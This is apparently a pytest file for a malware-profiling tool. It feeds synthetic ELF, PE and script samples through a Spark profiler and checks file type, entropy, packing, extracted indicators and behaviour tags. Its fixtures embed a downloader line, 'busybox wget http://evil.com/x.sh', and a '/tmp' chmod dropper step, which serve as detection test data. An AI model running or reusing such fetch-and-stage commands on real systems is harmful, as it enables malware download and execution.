from __future__ import annotations

import math
import struct
from collections import Counter

from sablewatch.operators.payloads import profile, profile_new


def elf64(interp: bool, symtab: bool) -> bytes:
    program = struct.pack("<I", 3 if interp else 1) + b"\0" * 52
    section = struct.pack("<II", 0, 2 if symtab else 1) + b"\0" * 56
    head = b"\x7fELF" + bytes([2, 1, 1, 0]) + b"\0" * 8 + struct.pack(
        "<HHIQQQIHHHHHH", 2, 0x3E, 1, 0, 64, 64 + 56, 0, 64, 56, 1, 64, 1, 0)
    return head + program + section


FILES = {
    "mips": b"\x7fELF" + bytes([1, 2, 1, 0]) + b"\0" * 8 + struct.pack(">HH", 2, 8)
    + b"\0" * 32 + b"busybox wget http://evil.com/x.sh from 1.2.3.4 not 999.1.1.1",
    "dynamic": elf64(True, True),
    "static": elf64(False, False),
    "cut": elf64(False, False)[:70],
    "stub": b"\x7fELF",
    "pe": b"MZ" + b"\0" * 58 + struct.pack("<I", 64) + b"PE\0\0"
    + struct.pack("<HHI", 0x8664, 3, 12345) + b"\0" * 16,
    "dos": b"MZ" + b"\xff" * 80,
    "script": b"#!/usr/bin/perl\nchmod +x /tmp/a",
    "text": b"hello world",
    "empty": b"",
    "random": bytes(range(256)) * 4,
    "wide": "widestring here".encode("utf-16-le"),
    "accent": "café http://höst.com/ü 5.6.7.8".encode(),
}


def entropy(data: bytes) -> float:
    n = len(data)
    return -sum(c / n * math.log2(c / n) for c in Counter(data).values()) if n else 0.0


def profiles(spark):
    rows = [(n, bytearray(b)) for n, b in FILES.items()]
    return {r.name: r for r in profile(spark.createDataFrame(rows, "name string, content binary"))
            .collect()}


def test_profiles(spark):
    got = profiles(spark)
    kinds = {n: r.file_type for n, r in got.items()}
    assert kinds == {
        "mips": "elf", "dynamic": "elf", "static": "elf", "cut": "elf", "stub": "elf", "pe": "pe",
        "dos": "pe", "script": "script-perl", "text": "text", "empty": "empty",
        "random": "unknown", "wide": "unknown", "accent": kinds["accent"]}
    assert got["mips"].arch == "mips" and got["mips"].elf.endianness == "big"
    assert (got["dynamic"].linkage, got["dynamic"].stripped) == ("dynamic", False)
    assert (got["static"].linkage, got["static"].stripped) == ("static", True)
    assert (got["cut"].linkage, got["cut"].stripped) == ("static", None)
    assert got["stub"].elf is None and got["dos"].arch is None
    assert tuple(got["pe"].pe) == ("x86-64", 3, 12345)
    assert got["random"].likely_packed and not got["text"].likely_packed
    assert got["wide"].strings_count == 1
    for name, data in FILES.items():
        assert abs(got[name].entropy - entropy(data)) < 0.00051


def test_indicators_and_behaviour(spark):
    got = profiles(spark)
    iocs = got["mips"].iocs
    assert iocs.urls == ["hxxp://evil[.]com/x[.]sh"] and iocs.domains == ["evil[.]com"]
    assert iocs.ipv4 == ["1[.]2[.]3[.]4"]
    assert got["mips"].behaviour_tags == ["downloader:wget", "iot:busybox"]
    assert got["script"].behaviour_tags == ["dropper:chmod", "dropper:tmp-staging"]
    assert got["accent"].iocs.urls == ["hxxp://höst[.]com/ü"]


def test_known_hashes_are_skipped(spark, make_events):
    rows = [(n, bytearray(FILES[n])) for n in ("text", "pe")] + [("lost", None)]
    files = spark.createDataFrame(rows, "name string, content binary")
    events = make_events([])
    stored, counts = profile_new(files, None, events)
    assert counts.first().asDict() == {"seen": 3, "errors": 1, "analysed": 2, "skipped": 0}
    again, counts = profile_new(files, stored, events)
    assert counts.first().asDict() == {"seen": 3, "errors": 1, "analysed": 0, "skipped": 2}
    assert again.count() == 2
